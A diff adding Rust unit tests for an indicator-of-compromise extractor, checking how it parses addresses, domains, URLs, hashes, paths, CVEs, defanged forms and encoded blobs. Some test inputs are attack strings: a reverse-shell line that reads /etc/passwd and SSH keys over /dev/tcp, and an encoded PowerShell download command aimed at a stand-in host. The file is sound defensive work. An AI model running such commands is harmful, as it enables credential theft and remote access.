@@ -1,4 +1,5 @@
-//! Exact-value tests of the extractor.
+//! Exact-value tests of the extractor: every type, every defang form, tricky negatives, offsets,
+//! decoding, custom types, options, and random inputs.
 
 use super::*;
 
@@ -20,7 +21,716 @@ fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
         .collect()
 }
 
+/// Only the values of one type.
+fn of(text: &str, t: IocType) -> Vec<String> {
+    extract(text, &ExtractOptions::default())
+        .into_iter()
+        .filter(|m| m.kind == t.into())
+        .map(|m| m.value)
+        .collect()
+}
+
 #[test]
-fn smoke() {
-    assert_eq!(found("ping 10.0.0.1 now"), pairs(&[("ipv4", "10.0.0.1")]));
+fn ipv4_octets_are_checked_and_addresses_stand_alone() {
+    assert_eq!(
+        of("from 10.0.0.1 to 8.8.8.8:53", IocType::Ipv4),
+        ["10.0.0.1", "8.8.8.8"]
+    );
+    assert_eq!(
+        of("ip (198.51.100.7) [198.51.100.8].", IocType::Ipv4),
+        ["198.51.100.7", "198.51.100.8"]
+    );
+    for negative in [
+        "999.888.777.666",
+        "1.2.3.4.5 is a version",
+        "1234.56.78.90123",
+        "10.20.30",
+        "v.1.2.3.4",
+        "1.2.3.4.evil.com",
+        "1.2.3.256",
+    ] {
+        assert!(of(negative, IocType::Ipv4).is_empty(), "{negative}");
+    }
+    // Leading zeros: decimal value, original kept.
+    let m = &extract("x 010.001.002.003 y", &ExtractOptions::default())[0];
+    assert_eq!((m.value.as_str(), m.start, m.end), ("10.1.2.3", 2, 17));
+}
+
+#[test]
+fn cidrs_report_the_network_and_its_address() {
+    assert_eq!(
+        found("route 10.0.0.0/8 and 2001:db8::/32 and 1.2.3.4/33"),
+        pairs(&[
+            ("ipv4_cidr", "10.0.0.0/8"),
+            ("ipv4", "10.0.0.0"),
+            ("ipv6_cidr", "2001:db8::/32"),
+            ("ipv6", "2001:db8::"),
+            ("ipv4", "1.2.3.4"),
+        ])
+    );
+}
+
+#[test]
+fn ipv6_is_parsed_not_pattern_matched() {
+    assert_eq!(
+        of(
+            "a 2001:0db8:85a3:0000:0000:8a2e:0370:7334 b fe80::1%eth0 c [2001:db8::42]:8443 ::1",
+            IocType::Ipv6
+        ),
+        [
+            "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
+            "fe80::1",
+            "2001:db8::42",
+            "::1"
+        ]
+    );
+    assert_eq!(
+        found("mapped ::ffff:192.0.2.128 ok"),
+        pairs(&[("ipv6", "::ffff:192.0.2.128"), ("ipv4", "192.0.2.128")])
+    );
+    for negative in [
+        "12:34:56",
+        "ratio 1:2:3",
+        "std::vector::push_back",
+        "a:b:c",
+        "::",
+        "Foo::Add(x)",
+        "1:2:3:4:5:6:7:8:9",
+    ] {
+        assert!(of(negative, IocType::Ipv6).is_empty(), "{negative}");
+    }
+}
+
+#[test]
+fn mac_addresses_in_three_notations() {
+    assert_eq!(
+        of(
+            "00:1a:2b:3c:4d:5e AA-F2-C9-A6-B3-4F acf2.c9a6.b34f 00:1a:2b:3c:4d",
+            IocType::MacAddress
+        ),
+        ["00:1a:2b:3c:4d:5e", "AA-F2-C9-A6-B3-4F", "acf2.c9a6.b34f"]
+    );
+}
+
+#[test]
+fn domains_need_a_registrable_public_suffix() {
+    assert_eq!(
+        of(
+            "www.example.com mail.google.co.uk x.example.travel WWW.MICROSOFT.COM example.org.",
+            IocType::Dns
+        ),
+        [
+            "www.example.com",
+            "mail.google.co.uk",
+            "x.example.travel",
+            "WWW.MICROSOFT.COM",
+            "example.org"
+        ]
+    );
+    assert_eq!(
+        of("_dmarc.example.com xn--80ak6aa92e.com", IocType::Dns),
+        ["_dmarc.example.com", "xn--80ak6aa92e.com"]
+    );
+    // The longest valid suffix of a run: `-bad-.example.com` → `example.com`.
+    assert_eq!(of("-bad-.example.com", IocType::Dns), ["example.com"]);
+    for negative in [
+        "host.invalidtld corp.local printer.lan",
+        "co.uk",
+        "e.g. i.e. a.m.",
+        "Mr.Smith",
+        "1.2.3.4",
+        "v5.9.31",
+        "a.ps1",
+    ] {
+        assert!(of(negative, IocType::Dns).is_empty(), "{negative}");
+    }
+    // ignore_tlds: any alphabetic TLD.
+    let opts = ExtractOptions {
+        ignore_tlds: true,
+        ..ExtractOptions::default()
+    };
+    assert_eq!(
+        found_with("corp.local", &opts),
+        pairs(&[("dns", "corp.local")])
+    );
+}
+
+#[test]
+fn file_names_and_signatures_are_not_domains() {
+    for negative in [
+        "setup.py readme.md archive.zip movie.mov",
+        "/opt/app/main.py and C:\\tools\\run.sh",
+        "W64/BURNTCIGAR.CA!tr",
+        "window.open(url)",
+        "(New-Object Net.WebClient).DownloadString(x)",
+    ] {
+        assert!(of(negative, IocType::Dns).is_empty(), "{negative}");
+    }
+    // Three labels, or defanged: a domain after all.
+    assert_eq!(
+        of("update.evil.zip evil[.]zip", IocType::Dns),
+        ["update.evil.zip", "evil.zip"]
+    );
+}
+
+#[test]
+fn urls_are_trimmed_and_report_their_host() {
+    assert_eq!(
+        found("see 'https://evil.example.com/a?b=1'."),
+        pairs(&[
+            ("url", "https://evil.example.com/a?b=1"),
+            ("dns", "evil.example.com")
+        ])
+    );
+    for (text, url) in [
+        ("(https://x.example.com/a)", "https://x.example.com/a"),
+        (
+            "[https://x.example.com/a](https://x.example.com/b)",
+            "https://x.example.com/a",
+        ),
+        ("<https://x.example.com/a>", "https://x.example.com/a"),
+        (
+            "https://en.wikipedia.org/wiki/Foo_(bar)",
+            "https://en.wikipedia.org/wiki/Foo_(bar)",
+        ),
+        (
+            "csv,https://x.example.com/,d41d8cd98f00b204e9800998ecf8427e",
+            "https://x.example.com/",
+        ),
+        (
+            "https://fonts.example.com/css?family=Lato:400,700\"",
+            "https://fonts.example.com/css?family=Lato:400,700",
+        ),
+        (
+            "ldap://ldap.example.com/dc=example,dc=com",
+            "ldap://ldap.example.com/dc=example,dc=com",
+        ),
+        (
+            "http://[2001:db8::7]/index.html",
+            "http://[2001:db8::7]/index.html",
+        ),
+        ("http://intranet/login", "http://intranet/login"),
+    ] {
+        assert_eq!(of(text, IocType::Url)[0], url, "{text}");
+    }
+    for negative in [
+        "http://192,168,0,1",
+        "foo://example.com/x",
+        "http://",
+        "C:/x",
+    ] {
+        assert!(of(negative, IocType::Url).is_empty(), "{negative}");
+    }
+    // Credentials are not an email; the host is an IP.
+    assert_eq!(
+        found("http://user:pass@10.1.2.3:8080/x"),
+        pairs(&[
+            ("url", "http://user:pass@10.1.2.3:8080/x"),
+            ("ipv4", "10.1.2.3")
+        ])
+    );
+}
+
+#[test]
+fn a_url_inside_a_url_is_reported_too() {
+    assert_eq!(
+        of(
+            "https://r.example.com/redir?u=http://evil.example.org/x",
+            IocType::Url
+        ),
+        [
+            "https://r.example.com/redir?u=http://evil.example.org/x",
+            "http://evil.example.org/x"
+        ]
+    );
+}
+
+#[test]
+fn emails_and_their_domains() {
+    assert_eq!(
+        found("mail bob+alerts@mail.example.co.uk now"),
+        pairs(&[
+            ("email", "bob+alerts@mail.example.co.uk"),
+            ("dns", "mail.example.co.uk")
+        ])
+    );
+    assert_eq!(
+        of("=?utf-8?q?frank@example.com?=", IocType::Email),
+        ["frank@example.com"]
+    );
+    assert_eq!(
+        of("to: <carol.smith@sub.example.org>", IocType::Email),
+        ["carol.smith@sub.example.org"]
+    );
+    assert!(of("carol.smith@sub.example.org", IocType::Dns) == ["sub.example.org"]);
+    assert_eq!(
+        of("x@[192.0.2.1] y@[IPv6:2001:db8::1]", IocType::Email),
+        ["x@[192.0.2.1]", "y@[IPv6:2001:db8::1]"]
+    );
+    for negative in ["root@localhost", "@someone", "user@", "a@b.invalidtld"] {
+        assert!(of(negative, IocType::Email).is_empty(), "{negative}");
+    }
+}
+
+#[test]
+fn hashes_by_length_without_numbers_guids_or_imphashes() {
+    let text = "d41d8cd98f00b204e9800998ecf8427e da39a3ee5e6b4b0d3255bfef95601890afd80709 \
+                e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+    assert_eq!(
+        found(text),
+        pairs(&[
+            ("md5_hash", "d41d8cd98f00b204e9800998ecf8427e"),
+            ("sha1_hash", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
+            (
+                "sha256_hash",
+                "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+            ),
+        ])
+    );
+    let sha512 = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e";
+    assert_eq!(of(sha512, IocType::Sha512), [sha512]);
+    assert_eq!(
+        of("xd41d8cd98f00b204e9800998ecf8427e;", IocType::Md5),
+        ["d41d8cd98f00b204e9800998ecf8427e"]
+    );
+    for negative in [
+        "0123456789abcdef0123456789abcdef0",
+        "12345678901234567890123456789012",
+        "6ba7b810-9dad-11d1-80b4-00c04fd430c8",
+        "imphash: 18ddf28a71089acdbab5038f58044c0a",
+        "0x32Be343B94f860124dC4fEe278FDCBD38C102D88",
+    ] {
+        assert!(
+            found(negative).iter().all(|(t, _)| !t.ends_with("_hash")),
+            "{negative}"
+        );
+    }
+}
+
+#[test]
+fn windows_paths_registry_keys_and_linux_paths() {
+    let text = r#"run "C:\Program Files\Microsoft Office\root\WINWORD.EXE" /n then ..\..\tools\mimikatz.exe and .\run.bat, %APPDATA%\Microsoft\x.lnk \\fileserver\share$\budget.xlsx C:/Windows/Temp/x.dll a.dll,DllMain"#;
+    assert_eq!(
+        of(text, IocType::WindowsPath),
+        [
+            r"C:\Program Files\Microsoft Office\root\WINWORD.EXE",
+            r"..\..\tools\mimikatz.exe",
+            r".\run.bat",
+            r"%APPDATA%\Microsoft\x.lnk",
+            r"\\fileserver\share$\budget.xlsx",
+            "C:/Windows/Temp/x.dll",
+        ]
+    );
+    assert!(
+        of(
+            r"CORP\admin a\backslash $env:TEMP\a.ps1 C:\ C:",
+            IocType::WindowsPath
+        )
+        .is_empty()
+    );
+    assert_eq!(
+        of(
+            r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v x; HKCU:\Software\Classes <HKCU>\SOFTWARE\X",
+            IocType::RegistryKey
+        ),
+        [
+            r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run",
+            r"HKCU:\Software\Classes",
+            r"HKCU\SOFTWARE\X"
+        ]
+    );
+    assert_eq!(
+        of(
+            "cat /etc/passwd | bash -i >& /dev/tcp/10.0.0.1/4444 ; ~/.ssh/id_rsa ../install.sh /var/log/auth.log:Failed",
+            IocType::LinuxPath
+        ),
+        [
+            "/etc/passwd",
+            "/dev/tcp/10.0.0.1/4444",
+            "~/.ssh/id_rsa",
+            "../install.sh",
+            "/var/log/auth.log"
+        ]
+    );
+    assert!(
+        of(
+            "/c whoami 3/4 2024/06/01 and/or /usr https://a.example.com/x/y",
+            IocType::LinuxPath
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn cves_and_attack_ids() {
+    assert_eq!(
+        found(
+            "CVE-2021-44228, cve 2014-1001 and T1059.001 then t1003 (CVE-1800-0000 T1059.0012 T99999)"
+        ),
+        pairs(&[
+            ("cve", "CVE-2021-44228"),
+            ("cve", "CVE-2014-1001"),
+            ("attack_technique", "T1059.001"),
+            ("attack_technique", "T1003"),
+        ])
+    );
+}
+
+#[test]
+fn every_defang_form_comes_back_refanged_with_its_original() {
+    let cases = [
+        ("evil[.]com", "dns", "evil.com"),
+        ("evil(.)com", "dns", "evil.com"),
+        ("evil{.}com", "dns", "evil.com"),
+        ("evil[dot]com", "dns", "evil.com"),
+        ("evil DOT com", "dns", "evil.com"),
+        ("evil\\.com", "dns", "evil.com"),
+        ("1.2.3[.]4", "ipv4", "1.2.3.4"),
+        ("1[.]2(.)3{.}4", "ipv4", "1.2.3.4"),
+        ("hxxp://evil[.]com/a", "url", "http://evil.com/a"),
+        ("hXXps://evil[.]com/a", "url", "https://evil.com/a"),
+        ("h**ps://evil.com/a", "url", "https://evil.com/a"),
+        ("fxp://evil.com/a", "url", "ftp://evil.com/a"),
+        ("http[:]//evil.com/a", "url", "http://evil.com/a"),
+        ("http[://]evil.com/a", "url", "http://evil.com/a"),
+        ("http://evil.com[/]a", "url", "http://evil.com/a"),
+        ("http:// evil .com /a", "url", "http://evil.com/a"),
+        ("user[at]evil.com", "email", "user@evil.com"),
+        ("user[@]evil[.]com", "email", "user@evil.com"),
+        ("user(at)evil.com", "email", "user@evil.com"),
+        ("user AT evil DOT com", "email", "user@evil.com"),
+        ("user at evil dot com", "email", "user@evil.com"),
+        ("2001[:]db8[:][:]1", "ipv6", "2001:db8::1"),
+    ];
+    for (text, kind, value) in cases {
+        let x = IocExtractor::new();
+        let ms = x.extract(text, &ExtractOptions::default());
+        let m = ms
+            .iter()
+            .find(|m| x.kind_name(m.kind) == kind)
+            .unwrap_or_else(|| panic!("{text}: {ms:?}"));
+        assert_eq!(m.value, value, "{text}");
+        assert!(m.defanged, "{text}");
+        assert_eq!(&text[m.start..m.end], text, "{text}");
+    }
+    // Prose is left alone (but `look at example dot com` reads as a spelled-out address).
+    assert!(
+        found("the dot com era. meet at noon. look at example.com")
+            .iter()
+            .all(|(t, _)| t == "dns")
+    );
+    // MSTICPy's defanged=False: defanged text is not matched.
+    let plain = ExtractOptions {
+        refang: false,
+        ..ExtractOptions::default()
+    };
+    assert!(
+        found_with("evil[.]com hxxp://evil.com", &plain)
+            .iter()
+            .all(|(t, _)| t != "url")
+    );
+}
+
+#[test]
+fn offsets_slice_back_to_the_original_in_utf8() {
+    let text = "café → hxxp://évil[.]example.com/ü and 10.0.0.1";
+    for m in extract(text, &ExtractOptions::default()) {
+        let original = &text[m.start..m.end];
+        assert!(!original.is_empty());
+        if !m.defanged {
+            assert_eq!(original, m.value);
+        }
+    }
+    let url = &of(text, IocType::Url)[0];
+    assert_eq!(url, "http://évil.example.com/ü");
+}
+
+#[test]
+fn decoded_blobs_say_how_they_were_found() {
+    // PowerShell -EncodedCommand of "iwr http://evil.example.com/a.ps1".
+    let ps =
+        "aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC4AYwBvAG0ALwBhAC4AcABzADEA";
+    let text = format!("powershell -enc {ps}");
+    let ms = extract(&text, &ExtractOptions::default());
+    let url = ms.iter().find(|m| m.kind == IocType::Url.into()).unwrap();
+    assert_eq!(url.value, "http://evil.example.com/a.ps1");
+    assert_eq!(url.decoded, [Decoding::Base64Utf16]);
+    assert_eq!(&text[url.start..url.end], ps);
+    // Percent-encoding inside base64, found two levels down.
+    let inner = "https://r.example.com/?u=http%3A%2F%2Fevil.example.org%2Fx";
+    let b64 = "aHR0cHM6Ly9yLmV4YW1wbGUuY29tLz91PWh0dHAlM0ElMkYlMkZldmlsLmV4YW1wbGUub3JnJTJGeA==";
+    let ms = extract(b64, &ExtractOptions::default());
+    let deep = ms
+        .iter()
+        .find(|m| m.value == "http://evil.example.org/x")
+        .unwrap();
+    assert_eq!(deep.decoded, [Decoding::Base64, Decoding::Percent]);
+    assert!(
+        ms.iter()
+            .any(|m| m.value == inner && m.decoded == [Decoding::Base64])
+    );
+    // Hex.
+    let ms = extract(
+        "687474703a2f2f6576696c2e6578616d706c652e636f6d2f",
+        &ExtractOptions::default(),
+    );
+    assert_eq!(ms[0].value, "http://evil.example.com/");
+    assert_eq!(ms[0].decoded, [Decoding::Hex]);
+    // Off, and depth-limited.
+    let off = ExtractOptions {
+        decode: false,
+        ..ExtractOptions::default()
+    };
+    assert!(extract(b64, &off).is_empty());
+    let shallow = ExtractOptions {
+        max_depth: 1,
+        ..ExtractOptions::default()
+    };
+    assert!(
+        !extract(b64, &shallow)
+            .iter()
+            .any(|m| m.value == "http://evil.example.org/x")
+    );
+}
+
+#[test]
+fn type_selection_and_table_defaults() {
+    let text = r"10.0.0.1 C:\Windows\x.exe /etc/passwd evil.example.com";
+    let only = ExtractOptions {
+        types: Some(vec![IocType::Ipv4.into(), IocType::Dns.into()]),
+        ..ExtractOptions::default()
+    };
+    assert_eq!(
+        found_with(text, &only),
+        pairs(&[("ipv4", "10.0.0.1"), ("dns", "evil.example.com")])
+    );
+    let table = ExtractOptions::table();
+    assert!(
+        found_with(text, &table)
+            .iter()
+            .all(|(t, _)| !t.ends_with("_path"))
+    );
+    let with_paths = ExtractOptions {
+        include_paths: true,
+        ..ExtractOptions::table()
+    };
+    assert!(
+        found_with(text, &with_paths)
+            .iter()
+            .any(|(t, _)| t == "windows_path")
+    );
+    assert!(
+        found_with(text, &with_paths)
+            .iter()
+            .all(|(t, _)| t != "linux_path")
+    );
+    assert_eq!(IocType::parse("MD5"), Some(IocType::Md5));
+    assert_eq!(IocType::parse("domain"), Some(IocType::Dns));
+    assert_eq!(IocType::parse("sha256_hash"), Some(IocType::Sha256));
+}
+
+#[test]
+fn exclude_private_drops_reserved_addresses() {
+    let opts = ExtractOptions {
+        exclude_private: true,
+        ..ExtractOptions::default()
+    };
+    assert_eq!(
+        found_with(
+            "10.1.1.1 192.168.0.1 127.0.0.1 203.0.113.5 100.64.0.1 8.8.8.8 fe80::1 2001:db8::1 2606:4700::1111",
+            &opts
+        ),
+        pairs(&[("ipv4", "8.8.8.8"), ("ipv6", "2606:4700::1111")])
+    );
+}
+
+#[test]
+fn schemeless_urls_on_request() {
+    let opts = ExtractOptions {
+        schemeless_urls: true,
+        ..ExtractOptions::default()
+    };
+    let urls = |t: &str| -> Vec<String> {
+        extract(t, &opts)
+            .into_iter()
+            .filter(|m| m.kind == IocType::Url.into())
+            .map(|m| m.value)
+            .collect()
+    };
+    assert_eq!(
+        urls("github.com/org/repo/blob/x.sh and evil[.]com"),
+        ["github.com/org/repo/blob/x.sh", "evil.com"]
+    );
+    assert_eq!(urls("https://a.example.com/x"), ["https://a.example.com/x"]);
+    assert!(of("github.com/org/repo", IocType::Url).is_empty());
+}
+
+#[test]
+fn custom_types_belong_to_their_extractor() {
+    let mut x = IocExtractor::new();
+    let kind = x
+        .add_type("ticket", r"(?i)\bINC-(?P<id>\d{4,})\b", 0, Some("id"))
+        .unwrap();
+    let ms = x.extract("see inc-12345 and INC-77", &ExtractOptions::default());
+    assert_eq!(ms.len(), 1);
+    assert_eq!(
+        (ms[0].kind, ms[0].value.as_str(), ms[0].start),
+        (kind, "12345", 8)
+    );
+    assert_eq!(x.kind_name(kind), "ticket");
+    assert_eq!(x.parse_kind("ticket"), Some(kind));
+    // Another extractor does not see it.
+    assert!(IocExtractor::new().parse_kind("ticket").is_none());
+    // Same span as a built-in: the higher priority wins (MSTICPy's rule).
+    let mut y = IocExtractor::new();
+    y.add_type("corp_host", r"[a-z]+\.example\.com", 5, None)
+        .unwrap();
+    let names: Vec<&str> = y
+        .extract("a.example.com", &ExtractOptions::default())
+        .iter()
+        .map(|m| y.kind_name(m.kind))
+        .collect();
+    assert_eq!(names, ["dns"]);
+    let mut z = IocExtractor::new();
+    z.add_type("corp_host", r"[a-z]+\.example\.com", 0, None)
+        .unwrap();
+    let names: Vec<String> = z
+        .extract("a.example.com", &ExtractOptions::default())
+        .iter()
+        .map(|m| z.kind_name(m.kind).to_owned())
+        .collect();
+    assert_eq!(names, ["corp_host"]);
+    // Clear errors.
+    let mut bad = |name: &str, re: &str, group: Option<&str>| {
+        x.add_type(name, re, 0, group).unwrap_err().to_string()
+    };
+    assert!(
+        bad("bad", "(unclosed", None)
+            .contains("the pattern of IoC type `bad` is not a valid regex")
+    );
+    assert!(bad("dns", "x", None).contains("built-in"));
+    assert!(bad("g", "(a)", Some("2")).contains("has no group 2"));
+    assert!(bad("g", "(a)", Some("nope")).contains("no group named `nope`"));
+    assert!(bad("", "a", None).contains("must be 1–64"));
+    // Back-references and look-around are refused (no backtracking engine).
+    assert!(x.add_type("br", r"(a)\1", 0, None).is_err());
+    assert!(x.add_type("la", r"a(?=b)", 0, None).is_err());
+}
+
+#[test]
+fn pathological_inputs_finish() {
+    // Linear time: these run in milliseconds; the bench measures it, this only proves they end.
+    for unit in [
+        "a.", "1.", "[.]", "1:", "a@", "\\a", "/a", "http://", "%41", "aA0+", "a[dot]", "x ",
+    ] {
+        let text = unit.repeat(200_000 / unit.len());
+        let t0 = std::time::Instant::now();
+        let ms = extract(&text, &ExtractOptions::default());
+        for m in &ms {
+            assert!(text.get(m.start..m.end).is_some());
+        }
+        eprintln!("{unit:?}: {:?}", t0.elapsed());
+    }
+}
+
+/// A tiny deterministic generator (xorshift), so the random test needs no dependency.
+struct Rng(u64);
+
+impl Rng {
+    fn next(&mut self) -> u64 {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        self.0
+    }
+}
+
+#[test]
+fn random_inputs_never_panic_and_offsets_slice_back() {
+    let pieces = [
+        "a",
+        "Z",
+        "0",
+        "9",
+        "f",
+        ".",
+        ":",
+        "@",
+        "/",
+        "\\",
+        "[",
+        "]",
+        "(",
+        ")",
+        "{",
+        "}",
+        "<",
+        ">",
+        " ",
+        "\t",
+        "\n",
+        "%",
+        "=",
+        "-",
+        "_",
+        "'",
+        "\"",
+        ",",
+        "!",
+        "?",
+        "#",
+        "hxxp",
+        "http://",
+        "dot",
+        "AT",
+        "[.]",
+        "com",
+        "co.uk",
+        "é",
+        "☃",
+        "😀",
+        "\u{a0}",
+        "\u{201d}",
+        "::",
+        "0x",
+        "HKLM",
+        "C:",
+        "CVE-",
+        "T1",
+        "aHR0cDovL2",
+        "==",
+        "%2F",
+        "%25",
+    ];
+    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
+    let x = IocExtractor::new();
+    let opts = ExtractOptions::default();
+    for _ in 0..3000 {
+        let n = (rng.next() % 40) as usize;
+        let text: String = (0..n)
+            .map(|_| pieces[(rng.next() % pieces.len() as u64) as usize])
+            .collect();
+        for m in x.extract(&text, &opts) {
+            let original = text
+                .get(m.start..m.end)
+                .unwrap_or_else(|| panic!("{text:?}: {m:?}"));
+            assert!(
+                !original.is_empty() && !m.value.is_empty(),
+                "{text:?}: {m:?}"
+            );
+            if !m.defanged
+                && m.decoded.is_empty()
+                && m.kind != IocType::Cve.into()
+                && m.kind != IocType::AttackTechnique.into()
+                && m.kind != IocType::RegistryKey.into()
+                && m.kind != IocType::Ipv4.into()
+            {
+                assert_eq!(original, m.value, "{text:?}");
+            }
+        }
+        let _ = refang(&text);
+        for t in IocType::ALL {
+            let _ = defang(&text, Some(t));
+        }
+    }
 }
